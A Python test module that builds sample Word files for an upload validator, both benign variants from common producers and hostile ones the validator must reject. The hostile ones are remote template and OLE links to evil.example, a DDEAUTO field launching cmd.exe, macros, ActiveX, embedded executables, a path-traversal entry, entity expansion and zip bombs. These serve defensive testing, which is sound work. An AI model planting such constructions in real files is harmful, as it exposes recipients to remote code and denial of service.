"""Word documents: orders, names and parts of the usual producers, and tricks."""

import struct
import zipfile
from collections.abc import Iterable, Iterator
from io import BytesIO

from tests.storage.compound import compound
from tests.storage.corpus.sample import DOCX, Sample, good
from tests.world import a_docx, a_pdf

Parts = dict[str, bytes]
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TRANSITIONAL = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
#: A program, packed into a document as Windows does it.
PACKAGE = compound({"\x01Ole10Native": b"\x40\0\0\0\x02\0x.EXE\0C:\\x\\x.EXE\0\0\0\3\0"})


def parts() -> Parts:
    with zipfile.ZipFile(BytesIO(a_docx())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(
    content: Parts | Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    file = BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, part in content.items() if isinstance(content, dict) else content:
            archive.writestr(name, part)
    return file.getvalue()


def streamed(content: Parts) -> bytes:
    """Write sizes after the entries, as what cannot go back does."""

    class Stream(BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

    file = Stream()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in content.items():
            archive.writestr(name, part)
    return file.getvalue()


def first(*names: str) -> Parts:
    """Return the parts with these at the beginning."""
    content = parts()
    return {name: content.pop(name) for name in names} | content


def related(kind: str, target: str, mode: str = "External") -> Parts:
    relation = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"'
    relation += f' TargetMode="{mode}"/>' if mode else "/>"
    content = parts()
    content[RELS] = content[RELS].replace(
        b"</Relationships>", relation.encode() + b"</Relationships>"
    )
    return content


def said(xml: str) -> Parts:
    """Put something into the document's first paragraph."""
    content = parts()
    main = content["word/document.xml"]
    content["word/document.xml"] = main.replace(b"<w:p>", b"<w:p>" + xml.encode(), 1)
    assert content["word/document.xml"] != main
    return content


def typed(old: str, new: str) -> Parts:
    content = parts()
    content[TYPES] = content[TYPES].replace(old.encode(), new.encode())
    return content


def strict() -> Parts:
    return {
        name: part.replace(TRANSITIONAL, STRICT) if name.endswith("document.xml") else part
        for name, part in parts().items()
    }


def a_workbook() -> bytes:
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped({TYPES: types.encode(), "xl/workbook.xml": b"<workbook/>"})


def field(instruction: str, *, cut: int = 1) -> Parts:
    pieces = [instruction[at : at + cut] for at in range(0, len(instruction), cut)]
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return said(begin + runs + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def good_ones() -> Iterator[tuple[str, bytes]]:
    yield "python-docx", a_docx()
    yield "Word", zipped(first(TYPES, "_rels/.rels", "word/document.xml"))
    yield "Word, strict", zipped(strict())
    yield "LibreOffice", zipped(dict(reversed(first(TYPES).items())))
    yield "Google Docs", streamed(first("word/document.xml"))
    yield "Pages", zipped(first("docProps/app.xml", "docProps/core.xml"))
    yield "custom XML first", zipped({"customXml/item1.xml": b"<a/>"} | parts())
    yield "nothing packed", zipped(parts(), zipfile.ZIP_STORED)
    yield "folders", zipped([("word/", b""), ("docProps/", b""), *parts().items()])
    yield (
        "a chart with its numbers",
        zipped(parts() | {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": a_workbook()}),
    )
    yield (
        "an old chart",
        zipped(parts() | {"word/embeddings/oleObject1.bin": compound({"Workbook": bytes(5_000)})}),
    )
    yield (
        "an equation",
        zipped(
            parts() | {"word/embeddings/o.bin": compound({"Equation Native": b"\x1c" + bytes(80)})}
        ),
    )
    yield "fonts", zipped(parts() | {"word/fonts/font1.odttf": bytes(range(256)) * 9})
    yield "pictures", zipped(parts() | {"word/media/image1.emf": b"\1\0\0\0" + bytes(90)})
    yield "comments", zipped(parts() | {"word/comments.xml": b"<w:comments xmlns:w='w'/>"})
    yield "a glossary", zipped(parts() | {"word/glossary/document.xml": b"<w:g xmlns:w='w'/>"})
    utf_16 = '<?xml version="1.0" encoding="UTF-16"?><a>\u00fc</a>'.encode("utf-16")
    yield "UTF-16", zipped(parts() | {"customXml/item1.xml": utf_16})
    yield "a link", zipped(related("hyperlink", "https://example.org/portfolio"))
    yield "a linked picture", zipped(related("image", "file:///C:/Users/Jane/photo.jpg"))
    yield (
        "its own template",
        zipped(related("attachedTemplate", r"file:///C:\Users\Jane\Templates\Resume.dotx")),
    )
    yield (
        "its own template on a Mac",
        zipped(related("attachedTemplate", "file:///Users/jane/Library/Resume.dotx")),
    )
    yield (
        "letters to many",
        zipped(related("mailMergeSource", "file:///D:\\Adressen%20Bewerbung.xls")),
    )
    yield "page numbers", zipped(field(" PAGE  \\* MERGEFORMAT ", cut=4))
    yield "a word that begins like DDE", zipped(field(" DDEX ", cut=2))
    yield "a gateway's blank bytes", a_docx() + b"\r\n"


def bad_ones() -> Iterator[tuple[str, str, bytes]]:
    main = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macros = "vnd.ms-word.document.macroEnabled.main+xml"
    yield "docx-macro", "a docm by another name", zipped(typed(main, macros))
    yield "docx-macro", "macros", zipped(parts() | {"word/vbaProject.bin": compound({"a": b"b"})})
    yield (
        "docx-macro",
        "macros in a sheet",
        zipped(parts() | {"word/embeddings/a.bin": compound({"_VBA_PROJECT_CUR/VBA/dir": b"x"})}),
    )
    yield (
        "docx-macro",
        "a workbook with macros",
        zipped(parts() | {"word/embeddings/a.xlsx": zipped({"xl/vbaProject.bin": b"x"})}),
    )
    for kind, target in (
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("attachedTemplate", r"\\evil.example\share\t.dotm"),
        ("attachedTemplate", "file://evil.example/share/t.dotm"),
        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
        ("mailMergeSource", "https://evil.example/a.csv"),
        ("frame", "https://evil.example/x.html"),
    ):
        yield "docx-external", f"{kind} at {target[:9]}", zipped(related(kind, target))
    yield "docx-active", "DDE", zipped(field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"', cut=60))
    yield "docx-active", "DDE in pieces", zipped(field(r" DDE excel calc"))
    yield "docx-active", "DDE in one", zipped(said('<w:fldSimple w:instr=" ddeauto a b"/>'))
    yield (
        "docx-active",
        "a control",
        zipped(
            related("control", "activeX/a.xml", mode="")
            | {
                TYPES: parts()[TYPES].replace(
                    b"</Types>",
                    b'<Override PartName="/word/activeX/a.xml" '
                    b'ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
                ),
                "word/activeX/a.xml": b"<a/>",
            }
        ),
    )
    yield "docx-program", "a program", zipped(parts() | {"word/evil.exe": b"x"})
    yield (
        "docx-program",
        "a program as a picture",
        zipped(parts() | {"word/media/image1.png": b"MZ\x90\x00" + bytes(60)}),
    )
    yield (
        "docx-program",
        "a packed program",
        zipped(parts() | {"word/embeddings/oleObject1.bin": PACKAGE}),
    )
    yield "docx-broken", "cut off", a_docx()[:20_000]
    yield (
        "docx-broken",
        "no main part",
        zipped({name: part for name, part in parts().items() if name != "word/document.xml"}),
    )
    dtd = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    yield "docx-broken", "entities", zipped(parts() | {"customXml/item1.xml": dtd})
    yield "docx-broken", "a path that leads out", zipped(parts() | {"../../evil.xml": b"<a/>"})
    yield "docx-bomb", "a bomb", zipped(parts() | {"word/media/a.bmp": bytes(60_000_000)})
    yield (
        "docx-bomb",
        "very many parts",
        zipped(parts() | {f"word/{number}": b"" for number in range(4_100)}, zipfile.ZIP_STORED),
    )
    yield "docx-bomb", "a bomb that says it is small", _small_bomb()
    locked = bytearray(a_docx())
    locked[6] |= 1
    yield "docx-password", "an encrypted entry", bytes(locked)
    yield "docx-password", "all entries encrypted", _locked()
    yield "disguised", "a workbook by another name", zipped(typed(main, main.replace("word", "x")))
    yield "disguised", "a page after", a_docx() + b"<html><script>1</script>"
    yield "disguised", "any archive", zipped({"a.txt": b"a", "b.txt": b"b"})


def _small_bomb() -> bytes:
    name = b"word/media/a.bmp"
    content = bytearray(zipped(parts() | {name.decode(): bytes(60_000_000)}))
    struct.pack_into("<L", content, content.rindex(name) - 46 + 24, 10)
    struct.pack_into("<L", content, content.index(name) - 30 + 22, 10)
    return bytes(content)


def _locked() -> bytes:
    content = bytearray(a_docx())
    at = -1
    while (at := content.find(b"PK\x03\x04", at + 1)) >= 0:
        content[at + 6] |= 1
    return bytes(content)


def samples() -> Iterator[Sample]:
    for why, content in good_ones():
        yield good(why, "Lebenslauf.docx", content, DOCX)
    for code, why, content in bad_ones():
        yield Sample(why, "Lebenslauf.docx", content, code)
    yield good("a docx called .doc", "cv.doc", a_docx(), DOCX)
    yield good("a docx called .rtf", "cv.rtf", a_docx(), DOCX)
    yield Sample("a docx called .pdf", "cv.pdf", a_docx(), "misnamed")
    yield Sample("a PDF called .docx", "cv.docx", a_pdf(), "misnamed")
    yield Sample("an archive", "alles.zip", zipped({"a.txt": b"a"}), "type-not-accepted")
